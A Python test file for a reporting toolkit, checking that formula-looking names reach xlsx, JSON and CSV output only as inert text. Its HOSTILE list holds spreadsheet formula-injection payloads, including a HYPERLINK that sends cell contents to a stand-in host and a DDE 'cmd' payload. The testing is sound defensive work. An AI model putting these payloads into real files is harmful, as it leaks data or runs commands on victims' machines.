"""Hostile values on the way out (corpus cases 29, 35, 36, 38): reports and annotated copies.

Formula-looking text reaches a real report through the register (locality names) and
must come out as text in xlsx (no ``<f>`` element anywhere), unchanged in JSON, and
apostrophe-escaped in CSV with numbers untouched. Sheet names follow Excel's rules;
control characters never stop a write half-way.
"""

from __future__ import annotations

import csv
import json
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from mectk.cli import cli
from mectk.reportkit import MAX_CELL_TEXT, ReportTextTooLongError, add_sheet, new_workbook, put
from mectk.reportkit import save as save_workbook
from mectk.textsafety import FORMULA_STARTS, csv_safe, write_csv

HOSTILE = [
    '=HYPERLINK("http://x?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def hostile_register(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    """The metrics tests' register, with formula-looking locality names."""
    import tests.test_metrics as metrics

    names = ['=HYPERLINK("http://x?"&A1,"click")', "@SUM(1)"]
    original = metrics.LOCALITIES
    metrics.LOCALITIES = [{**loc, "name": n} for loc, n in zip(original, names, strict=True)]
    try:
        db = metrics.build_register(tmp_path_factory.mktemp("hostile-register"))
    finally:
        metrics.LOCALITIES = original
    return db, names


def report(db: Path, out: Path) -> None:
    done = CliRunner().invoke(
        cli,
        ["report", "summary", "--period", "2025-26-Q1", "--db", str(db), "-o", str(out)],
        catch_exceptions=False,
    )
    assert done.exit_code == 0, done.output


def test_formula_looking_names_stay_text_in_the_xlsx_report(hostile_register, tmp_path):
    db, names = hostile_register
    out = tmp_path / "summary.xlsx"
    report(db, out)
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # Excel-invalid names or cells would warn here
        workbook = openpyxl.load_workbook(out)
    shown = {c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row}
    assert set(names) <= shown


def test_control_characters_are_made_visible_not_a_crash_mid_report(tmp_path):
    workbook = new_workbook()
    sheet = add_sheet(workbook, "S")
    for row, text in enumerate(["A\x01B", "C\x0bD", "E\u200bF", "G\u202eH"], start=1):
        put(sheet, row, 1, text)
    out = tmp_path / "controls.xlsx"
    save_workbook(workbook, out)
    shown = [c.value for c in openpyxl.load_workbook(out)["S"]["A"]]
    assert shown == ["A\\x01B", "C\\x0bD", "E\u200bF", "G\u202eH"]


def test_formula_looking_names_are_byte_faithful_in_the_json_report(hostile_register, tmp_path):
    db, names = hostile_register
    out = tmp_path / "summary.json"
    report(db, out)
    localities = {row["locality"] for row in json.loads(out.read_text())["by_locality"]}
    assert set(names) <= localities


def test_csv_output_escapes_each_formula_start_once_and_leaves_numbers(tmp_path):
    out = tmp_path / "out.csv"
    write_csv(out, ["name", "amount"], [[text, -5] for text in HOSTILE])
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["name", "amount"]
    for text, (shown, amount) in zip(HOSTILE, rows[1:], strict=True):
        assert shown == "'" + text
        assert amount == "-5"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_csv_safe_text_never_starts_a_formula_and_loses_nothing(text):
    shown = csv_safe(text)
    assert not shown.startswith(FORMULA_STARTS)
    assert shown == text or shown == "'" + text


@pytest.mark.parametrize(
    "wanted",
    [
        "Support Episodes \u2013 North Locality Team A",
        "Support Episodes \u2013 North Locality Team B",
        "a/b\\c?d*e:f[g]h",
        "History",
        "'Quoted'",
        "",
        "   ",
    ],
)
def test_report_sheet_names_open_without_repair(tmp_path, wanted):
    workbook = new_workbook()
    first = add_sheet(workbook, wanted)
    second = add_sheet(workbook, wanted)  # the same name again must stay unique
    for sheet in (first, second):
        put(sheet, 1, 1, wanted)
        assert 1 <= len(sheet.title) <= 31
        assert not set(sheet.title) & set("/\\?*:[]")
        assert not sheet.title.startswith("'") and not sheet.title.endswith("'")
        assert sheet.title.casefold() != "history"
    assert first.title.casefold() != second.title.casefold()
    out = tmp_path / "names.xlsx"
    save_workbook(workbook, out)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert openpyxl.load_workbook(out).sheetnames == [first.title, second.title]


def test_the_report_kit_refuses_text_and_rows_excel_cannot_hold(tmp_path):
    workbook = new_workbook()
    sheet = add_sheet(workbook, "S")
    with pytest.raises(ReportTextTooLongError):
        put(sheet, 1, 1, "x" * (MAX_CELL_TEXT + 1))
    with pytest.raises(ReportTextTooLongError, match="1,048,576 rows"):
        put(sheet, 1_048_577, 1, "one row too many")
    assert sheet.max_row == 1 and sheet["A1"].value is None  # nothing half-written


def test_the_annotated_copy_keeps_hostile_source_text_as_text(tmp_path):
    from mectk.annotate import write_annotated_copy
    from mectk.pipeline import validate_files
    from mectk.plugin_manager import build_registry, make_plugin_manager
    from tests.hostile.corpus import HEADINGS, TITLES, canonical_rows, xlsx

    rows = canonical_rows(len(HOSTILE))
    column = HEADINGS.index(TITLES["trading_name"])
    for row, text in zip(rows, HOSTILE, strict=True):
        row[column] = text
    rows[0][HEADINGS.index(TITLES["status"])] = "=not a status"
    source = tmp_path / "source.xlsx"
    source.write_bytes(xlsx([HEADINGS, *rows]))
    registry = build_registry(make_plugin_manager(load_entrypoints=False))
    result = validate_files(registry, [source])
    assert not result.valid
    out = tmp_path / "annotated.xlsx"
    write_annotated_copy(source, result.issues, out, file_name=source.name)
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name), name
    workbook = openpyxl.load_workbook(out)
    values = {c.value for row in workbook["Enterprises"].iter_rows() for c in row}
    # XML itself turns a raw carriage return into a line feed, in the source as in the copy
    assert {text.replace("\r", "\n") for text in HOSTILE} <= values
